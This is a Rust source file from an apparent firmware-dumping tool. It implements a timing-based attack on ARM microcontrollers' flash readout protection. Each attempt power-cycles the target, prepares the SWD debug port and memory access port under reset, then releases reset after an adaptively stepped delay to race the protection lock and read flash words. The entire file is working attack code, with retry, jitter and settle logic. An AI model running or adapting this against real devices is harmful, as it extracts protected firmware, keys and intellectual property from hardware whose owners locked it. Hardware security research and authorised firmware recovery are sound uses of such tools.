// Copyright (C) 2025 Piers Finlayson <piers@piers.rocks>
//
// MIT License

//! Glitch attack read controller
//!
//! Each attempt to read a word power cycles the target, brings up SWD and the
//! MEM-AP while the target is held in reset, then releases reset and waits a
//! short, varying delay before issuing the memory read.  If the read lands
//! before readout protection has locked the debug port out of flash, it
//! succeeds.
//!
//! The delay - the jitter - grows after every failed attempt and wraps
//! within its configured bounds.  It is never reset between words, so a
//! delay that worked for one word is the first one tried for the next.

#[allow(unused_imports)]
use log::{debug, error, info, trace, warn};
use serde::Serialize;

use rdpdump_core::arm::Cortex;
use rdpdump_core::arm::dp::IdCode;
use rdpdump_swd::hal::{Power, Reset, SwdPins, TargetControl};
use rdpdump_swd::{DebugInterface, Status, SwdInterface, SwdTransport};

use crate::GlitchError;
use crate::config::{GlitchConfig, JitterConfig};

// Fixed waits of the post-attempt settle sequence, in ms
const SETTLE_POWER_OFF_MS: u32 = 1;
const SETTLE_RELEASED_MS: u32 = 2;
const SETTLE_ASSERTED_MS: u32 = 1;

/// The adaptive delay between releasing reset and reading memory.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct JitterDelay {
    current_ms: u32,
    min_ms: u32,
    max_ms: u32,
    increment_ms: u32,
}

impl JitterDelay {
    /// Creates a delay starting at the configured minimum.
    pub fn new(config: &JitterConfig) -> Self {
        Self {
            current_ms: config.min_ms,
            min_ms: config.min_ms,
            max_ms: config.max_ms,
            increment_ms: config.increment_ms,
        }
    }

    /// Current delay in ms
    pub fn current(&self) -> u32 {
        self.current_ms
    }

    /// Steps the delay after a failed attempt, wrapping to the minimum once
    /// it reaches the maximum.
    pub fn advance(&mut self) {
        self.current_ms = self.current_ms.saturating_add(self.increment_ms);
        if self.current_ms >= self.max_ms {
            self.current_ms = self.min_ms;
        }
    }
}

/// Counters for a glitch session.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize)]
pub struct ReadStats {
    /// Words read successfully
    pub words_read: u32,

    /// Words given up on
    pub words_failed: u32,

    /// Attempts made, successful or not, across all words
    pub attempts: u32,

    /// Attempts made for the most recent word
    pub last_word_attempts: u32,

    /// Bring-ups that returned an unexpected IDCODE
    pub idcode_mismatches: u32,
}

/// Glitch attack read controller
///
/// Owns the SWD debug interface and the target's power and reset control for
/// the whole session.
///
/// ```rust
/// use rdpdump_glitch::{GlitchConfig, GlitchReader};
/// use rdpdump_swd::DebugInterface;
/// use rdpdump_swd::sim::Simulator;
///
/// let sim = Simulator::new();
/// sim.write_word(0x0800_0000, 0x2000_1000);
///
/// let debug = DebugInterface::new(sim.target());
/// let mut reader = GlitchReader::new(debug, sim.board(), GlitchConfig::default()).unwrap();
/// assert_eq!(reader.read_word(0x0800_0000), Ok(0x2000_1000));
/// ```
#[derive(Debug)]
pub struct GlitchReader<T: SwdTransport, C: TargetControl> {
    debug: DebugInterface<T>,
    board: C,
    config: GlitchConfig,
    jitter: JitterDelay,
    stats: ReadStats,
}

impl<P: SwdPins, C: TargetControl> GlitchReader<SwdInterface<P>, C> {
    /// Creates a reader driving SWD directly on `pins`, at the configured
    /// speed.
    pub fn from_pins(pins: P, board: C, config: GlitchConfig) -> Result<Self, GlitchError> {
        let mut swd = SwdInterface::from_pins(pins);
        swd.set_swd_speed(config.speed);
        Self::new(DebugInterface::new(swd), board, config)
    }
}

impl<T: SwdTransport, C: TargetControl> GlitchReader<T, C> {
    /// Creates a reader, after validating `config`.
    ///
    /// The target is switched off and held in reset.
    pub fn new(debug: DebugInterface<T>, board: C, config: GlitchConfig) -> Result<Self, GlitchError> {
        config.validate()?;

        let mut reader = Self {
            debug,
            board,
            jitter: JitterDelay::new(&config.jitter),
            config,
            stats: ReadStats::default(),
        };
        reader.board.set_power(Power::Off);
        reader.board.set_reset(Reset::Asserted);

        debug!(
            "Glitch reader created, jitter {}-{}ms step {}ms, {} attempts per word",
            reader.config.jitter.min_ms,
            reader.config.jitter.max_ms,
            reader.config.jitter.increment_ms,
            reader.config.max_attempts
        );

        Ok(reader)
    }

    pub fn config(&self) -> &GlitchConfig {
        &self.config
    }

    pub fn jitter(&self) -> &JitterDelay {
        &self.jitter
    }

    pub fn stats(&self) -> &ReadStats {
        &self.stats
    }

    pub fn debug_if(&mut self) -> &mut DebugInterface<T> {
        &mut self.debug
    }

    pub fn board(&mut self) -> &mut C {
        &mut self.board
    }

    /// Releases the debug interface and board control.
    pub fn into_parts(self) -> (DebugInterface<T>, C) {
        (self.debug, self.board)
    }

    /// Reads the word containing `address`, retrying until it succeeds or
    /// the configured number of attempts have failed.
    pub fn read_word(&mut self, address: u32) -> Result<u32, GlitchError> {
        let address = address & !0x3;
        let mut failures = 0;
        self.stats.last_word_attempts = 0;

        let (status, value) = loop {
            self.stats.attempts += 1;
            self.stats.last_word_attempts += 1;

            self.board.set_indicator(false);
            self.board.set_power(Power::On);
            self.board.delay_ms(self.config.power_on_settle_ms);

            let (status, value) = self.attempt(address);

            self.board.set_reset(Reset::Asserted);

            if status.is_ok() {
                self.board.set_indicator(true);
            } else {
                failures += 1;
                debug!(
                    "Error: {address:#010x} attempt {failures} at {}ms: {status}",
                    self.jitter.current()
                );
                self.jitter.advance();
            }

            self.settle();

            if status.is_ok() || failures >= self.config.max_attempts {
                break (status, value);
            }
        };

        if status.is_ok() {
            self.stats.words_read += 1;
            info!(
                "Value: {address:#010x}: {value:#010x} after {} attempts",
                self.stats.last_word_attempts
            );
            Ok(value)
        } else {
            self.stats.words_failed += 1;
            warn!("Error: {address:#010x}: giving up after {failures} attempts: {status}");
            Err(GlitchError::AttemptsExhausted {
                address,
                status,
                attempts: failures,
            })
        }
    }

    // One pass of bring-up and read.  Each bring-up step only runs if all
    // before it returned exactly OK.  Leaves reset released if the read was
    // attempted.
    fn attempt(&mut self, address: u32) -> (Status, u32) {
        let (mut status, idcode) = self.debug.bring_up();
        if status.is_ok() {
            self.check_idcode(idcode);
            status = self.debug.enable_debug();
        }
        if status.is_ok() {
            status = self.debug.configure_memory_access();
        }
        if status.is_ok() {
            status = self.debug.select_ahb_ap();
        }
        if !status.is_ok() {
            return (status, 0);
        }

        self.board.set_reset(Reset::Released);
        self.board.delay_ms(self.jitter.current());

        self.debug.read_memory_word(address)
    }

    // Without a configured IDCODE, anything that isn't an ARM debug port is
    // taken to be a corrupted read.
    fn check_idcode(&mut self, idcode: IdCode) {
        let matches = match self.config.expected_idcode {
            Some(expected) => idcode.data() == expected,
            None => idcode.is_arm_debug_port(),
        };

        if !matches {
            self.stats.idcode_mismatches += 1;
            match self.config.expected_idcode {
                Some(expected) => {
                    warn!("Error: IDCODE {idcode:#} does not match expected {expected:#010x}")
                }
                None => warn!("Error: IDCODE {idcode:#} is not an ARM debug port"),
            }
        } else if self.stats.attempts == 1 {
            match Cortex::from_idcode(idcode) {
                Some(core) => info!("Target: {core}, IDCODE {idcode}"),
                None => info!("Target: IDCODE {idcode:#}"),
            }
        }
    }

    // Power off, and pulse reset so the target starts from cold next time
    fn settle(&mut self) {
        self.board.set_power(Power::Off);
        self.board.delay_ms(SETTLE_POWER_OFF_MS);
        self.board.set_reset(Reset::Released);
        self.board.delay_ms(SETTLE_RELEASED_MS);
        self.board.set_reset(Reset::Asserted);
        self.board.delay_ms(SETTLE_ASSERTED_MS);
    }
}
